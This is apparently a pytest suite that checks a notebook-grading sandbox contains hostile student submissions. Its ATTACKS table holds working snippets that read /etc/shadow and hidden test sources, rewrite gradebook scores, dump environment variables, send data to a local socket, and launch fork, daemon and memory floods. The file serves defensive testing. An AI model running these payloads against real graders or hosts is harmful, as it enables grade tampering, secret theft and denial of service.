"""The grading sandbox against hostile submissions, with real nbgrader and real bubblewrap.

One class of notebook 01: ada (the reference solution, with a marker in her
code), ben (the untouched release) and one student per attack. Each attacker
answers every question correctly and runs its attack when its first answer
cell is defined. Everyone also hands in a correct notebook 04 (ben: the
release), so that under `nndl grade`, whose kernels are forked by one kernel
factory per student (sandbox.KernelFactory), the attacks run in a forked
kernel and a second notebook comes after them from the same factory. The class
is graded twice: by plain `nbgrader autograde` of 01 with the course's
nbgrader_config.py, and by `nndl grade` of 01 and 04. Every attack must
be contained: nothing secret reaches any output, no file outside the
kernel's folder changes, the loopback listener hears nothing, no process
survives, and ada / ben still score 10 / 0.

Every attack is bounded (memory stops at a few GB, processes at a few
hundred, network to 127.0.0.1 only) and every file an attack could touch is
restored afterwards, so the suite fails cleanly, without harm, on a machine
where the sandbox is off.
"""
import hashlib
import os
import signal
import socket
import threading
import time
from pathlib import Path

import nbformat
import pytest

import nndl
from nndl.tools import course
from nndl.tools.author import submissions
from nndl.tools.grade import class_grader
from nndl.tools.grade.course_dir import temporary_course

from .proc_support import needs_sandbox, processes_marked

AID = "01_numpy_basics"
AFTER = "04_deep_nn_step_by_step"     # graded after the attack, by nndl grade, from the same factory
MARK = "nndl-attack-7f3a"             # in every attack process's command line
ADA_MARK = "ada-private-answer-91c2"  # a comment only in ada's notebook
ENV_SECRET = "planted-secret-5e8d"    # an instructor variable the kernel must not see


pytestmark = needs_sandbox

# name -> code run at the top of the attacker's first answer cell. Placeholders:
# {root} the course, {repo} the repository, {nndl} the learner library, {port} the listener.
ATTACKS = {
    "read_source_walking_up": """
import os, glob
p = os.getcwd()
for _ in range(8):
    p = os.path.dirname(p)
    for f in glob.glob(os.path.join(p, "source", "*", "*.ipynb")) + glob.glob(os.path.join(p, "*", "source", "*", "*.ipynb")):
        print("LEAK", open(f).read())
""",
    "read_source_via_nndl_file": """
import os, glob, nndl
repo = os.path.dirname(os.path.dirname(nndl.__file__))
for f in glob.glob(os.path.join(repo, "source", "*", "*.ipynb")) + glob.glob(os.path.join(repo, "nndl", "tools", "*", "*.py")):
    print("LEAK", open(f).read())
""",
    "read_by_absolute_paths": """
for f in ["{root}/source/01_numpy_basics/01_numpy_basics.ipynb", "{root}/gradebook.db",
          "{root}/submitted/ada/01_numpy_basics/01_numpy_basics.ipynb",
          "{root}/autograded/ada/01_numpy_basics/01_numpy_basics.ipynb", "{repo}/nbgrader_config.py",
          "/root/.bash_history", "/etc/shadow"]:
    try:
        print("LEAK", open(f, "rb").read()[:100000])
    except Exception as exc:
        print("blocked", f, type(exc).__name__)
""",
    "write_gradebook": """
import sqlite3
try:
    con = sqlite3.connect("{root}/gradebook.db")
    con.execute("UPDATE grade SET manual_score = 1000")
    con.commit()
    print("WROTE gradebook")
except Exception as exc:
    print("blocked", type(exc).__name__)
""",
    "write_outside": """
import os
targets = ["{root}/exchange/nndl/outbound/01_numpy_basics/leak.txt", "{root}/source/01_numpy_basics/01_numpy_basics.ipynb",
           "{nndl}/checks.py", "{repo}/nbgrader_config.py", "{root}/submitted/ada/01_numpy_basics/01_numpy_basics.ipynb"]
for f in targets:  # each exists on the host (the exchange folder too: made by the test)
    try:
        with open(f, "a") as out:
            out.write("\\n# tampered by a student\\n")
        print("WROTE", f)
    except Exception as exc:
        print("blocked", f, type(exc).__name__)
with open("planted.txt", "w") as out:  # its own folder: allowed, but must not reach the host
    out.write("x")
""",
    "network": """
import socket
try:
    s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    s.sendall(b"stolen")
    print("CONNECTED")
except Exception as exc:
    print("blocked", type(exc).__name__)
""",
    "memory": """
import numpy as np
try:
    big = np.ones(int(6e9) // 8)  # 6 GB at once
    print("ALLOCATED 6 GB")
except MemoryError:
    print("blocked at once")
chunks = []
try:
    for _ in range(40):  # then 100 MB at a time, up to 4 GB
        chunks.append(np.ones(int(1e8) // 8))
    print("ALLOCATED 4 GB")
except MemoryError:
    print("blocked after", len(chunks) * 100, "MB")
del chunks
""",
    "processes": """
import os, subprocess, sys
procs = []
try:
    for _ in range(300):
        procs.append(subprocess.Popen([sys.executable, "-c", "import time; time.sleep(90)", "{mark}"]))
    print("STARTED 300")
except Exception as exc:
    print("blocked after", len(procs), type(exc).__name__)
if os.fork() == 0:  # a daemon: double fork, new session
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(120)", "{mark}", "daemon"])
    os._exit(0)
""",
    "environment": """
import os
print("ENV", dict(os.environ))
""",
    "flood_output": """
for _ in range(120):  # 120 MB of output, far past the grader's cap per notebook
    print("y" * 1_000_000)
""",
    "signal_parent": """
import os, signal, time
parent = os.getppid()
try:  # root's sandbox: another uid, refused; an ordinary user's: allowed, but pid 1 ignores it
    os.kill(parent, signal.SIGKILL)
except Exception as exc:
    print("blocked", type(exc).__name__)
else:
    time.sleep(0.5)
    try:
        os.kill(parent, 0)
        print("parent survived", parent)
    except ProcessLookupError:
        print("killed parent", parent)
""",
}


def attacker_notebook(attack, placeholders):
    answers = submissions.reference_answers(AID)
    answers["basic_sigmoid"] = ATTACKS[attack].format(**placeholders) + "\n" + answers["basic_sigmoid"]
    return submissions.make_submission(AID, answers)


def digest(path):
    path = Path(path)
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection it gets."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.heard, self.stop = [], False
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
                self.heard.append(conn.recv(100))
                conn.close()
            except OSError:
                continue

    def close(self):
        self.stop = True
        self.thread.join(5)
        self.sock.close()


def attack_processes():
    """Pids of processes whose command line carries the attack's marker."""
    return processes_marked(MARK)


def outputs_text(nb):
    parts = []
    for cell in nb.cells:
        for out in cell.get("outputs", []):
            parts += [str(out.get("text", "")), str(out.get("data", "")), str(out.get("evalue", ""))]
    return "\n".join(parts)


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    """The class, placed in a fresh course; yields (course, placeholders). Restores every file an
    attack could touch and kills every attack process afterwards, whatever happened."""
    with temporary_course([AID, AFTER]) as c:
        repo = course.ROOT
        placeholders = {"root": c.root, "repo": repo, "nndl": Path(nndl.__file__).parent, "mark": MARK, "port": 0}
        guarded = [Path(placeholders["nndl"]) / "checks.py", repo / "nbgrader_config.py",
                   c.root / "source" / AID / f"{AID}.ipynb"]
        saved = {p: p.read_bytes() for p in guarded}
        try:
            yield c, placeholders, guarded
        finally:
            for p, data in saved.items():
                if p.read_bytes() != data:
                    p.write_bytes(data)
            for pid in attack_processes():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass


def submit_class(c, placeholders):
    ada = submissions.make_submission(AID)
    ada.cells[[i for i, cell in enumerate(ada.cells) if "def sigmoid(" in cell.source][0]].source += f"\n# {ADA_MARK}\n"
    c.submit("ada", AID, ada)
    c.submit("ben", AID, course.release_path(AID))
    c.submit("ben", AFTER, course.release_path(AFTER))
    for attack in ATTACKS:
        c.submit(f"eve_{attack}", AID, attacker_notebook(attack, placeholders))
    after = submissions.make_submission(AFTER)
    for student in ["ada", *(f"eve_{attack}" for attack in ATTACKS)]:
        c.submit(student, AFTER, after)


@pytest.mark.parametrize("grader", ["nbgrader autograde", "nndl grade"])
def test_hostile_submissions_are_contained(hostile_class, grader, monkeypatch):
    """Every attack is contained, and the honest students' scores are exact, on both grading paths."""
    c, placeholders, guarded = hostile_class
    listener = Listener()
    placeholders["port"] = listener.port
    monkeypatch.setenv("NNDL_PLANTED_SECRET", ENV_SECRET)
    for folder in ("submitted", "autograded", "feedback"):
        target = c.root / folder
        if target.exists():
            import shutil
            shutil.rmtree(target)
    # the write attack's targets all exist on the host, so a kernel that saw the host's folders could
    # write them; made inside its sandbox instead (a non-root kernel owns its tmpfs's folders) they
    # would prove nothing
    (c.root / "exchange" / "nndl" / "outbound" / "01_numpy_basics").mkdir(parents=True, exist_ok=True)
    submit_class(c, placeholders)
    before = {p: digest(p) for p in guarded}
    ada_before = digest(c.root / "submitted" / "ada" / AID / f"{AID}.ipynb")
    start = time.monotonic()
    try:
        if grader == "nbgrader autograde":
            proc = c.run(["autograde", AID, "--force"], check=False)
            assert proc.returncode == 0, proc.stderr[-3000:]
        else:
            assert class_grader.main(["--root", str(c.root), AID, AFTER]) == 0
    finally:
        listener.close()
    elapsed = time.monotonic() - start

    scores = c.scores()
    assert scores[("ada", AID)] == (10.0, 10.0)
    assert scores[("ben", AID)] == (0.0, 10.0)
    for attack in ATTACKS:  # each attacker is graded, on its own (correct) answers
        assert (f"eve_{attack}", AID) in scores, f"{attack}: not graded"
    if grader == "nndl grade":  # the notebook after the attack, from the same kernel factory
        full = scores[("ada", AFTER)]
        assert full[0] == full[1] > 0 and scores[("ben", AFTER)][0] == 0
        for attack in ATTACKS:
            assert scores[(f"eve_{attack}", AFTER)] == full, f"{attack}: the next notebook lost points"

    secrets_ = ["BEGIN HIDDEN TESTS", "SQLite format 3", ADA_MARK, ENV_SECRET, "tampered by a student"]
    for attack in ATTACKS:
        text = outputs_text(nbformat.read(str(c.autograded_notebook(f"eve_{attack}", AID)), as_version=4))
        for secret in secrets_:
            assert secret not in text, f"{attack}: {secret!r} reached the notebook's outputs"
        for claim in ("WROTE", "CONNECTED", "ALLOCATED", "STARTED 300", "killed parent"):
            assert claim not in text, f"{attack}: {claim}"
        assert c.autograded_notebook(f"eve_{attack}", AID).stat().st_size < 40e6, f"{attack}: output not capped"
        folder = c.root / "autograded" / f"eve_{attack}" / AID
        assert sorted(p.name for p in folder.iterdir()) == [f"{AID}.ipynb"], f"{attack}: wrote into the host folder"
    assert not (c.root / "exchange" / "nndl" / "outbound" / AID / "leak.txt").exists()
    assert {p: digest(p) for p in guarded} == before, "a file outside the kernel's folder changed"
    assert digest(c.root / "submitted" / "ada" / AID / f"{AID}.ipynb") == ada_before
    assert listener.heard == [], "the loopback listener was reached"
    assert attack_processes() == [], "an attack process survived grading"
    assert elapsed < 300, f"grading the class took {elapsed:.0f} s"


def test_missing_bubblewrap_stops_grading_with_a_clear_message():
    """Without bwrap, autograde refuses (no silent fallback) and says how to install it."""
    with temporary_course([AID]) as c:
        c.submit("ada", AID, submissions.make_submission(AID))
        proc = c.run(["autograde", AID, "--force", "--Sandbox.bwrap=/nonexistent/bwrap"], check=False)
        assert "apt-get install bubblewrap" in proc.stdout + proc.stderr
        assert ("ada", AID) not in c.scores() or c.scores()[("ada", AID)][0] == 0


def test_opting_out_warns_on_every_notebook():
    """Sandbox.enabled=False grades unconfined and says so in nbgrader's log."""
    with temporary_course([AID]) as c:
        c.submit("ada", AID, submissions.make_submission(AID))
        proc = c.run(["autograde", AID, "--force", "--Sandbox.enabled=False"], check=False)
        assert proc.returncode == 0
        assert "sandbox is OFF" in proc.stdout + proc.stderr
        assert c.scores()[("ada", AID)] == (10.0, 10.0)


def test_notebook_time_cap_scores_the_rest_zero():
    """Past Sandbox.notebook_timeout the remaining cells are not run and score 0; earlier ones count."""
    answers = submissions.reference_answers(AID)
    answers["image2vector"] = "import time\ntime.sleep(12)\n" + answers["image2vector"]
    with temporary_course([AID]) as c:
        c.submit("slow", AID, submissions.make_submission(AID, answers))
        c.run(["autograde", AID, "--force", "--Sandbox.notebook_timeout=6"])
        cells = c.cell_scores("slow", AID)
        assert cells["test_basic_sigmoid"] == (1.0, 1.0)
        assert cells["test_L2"][0] == 0
        nb = nbformat.read(str(c.autograded_notebook("slow", AID)), as_version=4)
        assert "total time limit" in outputs_text(nb)
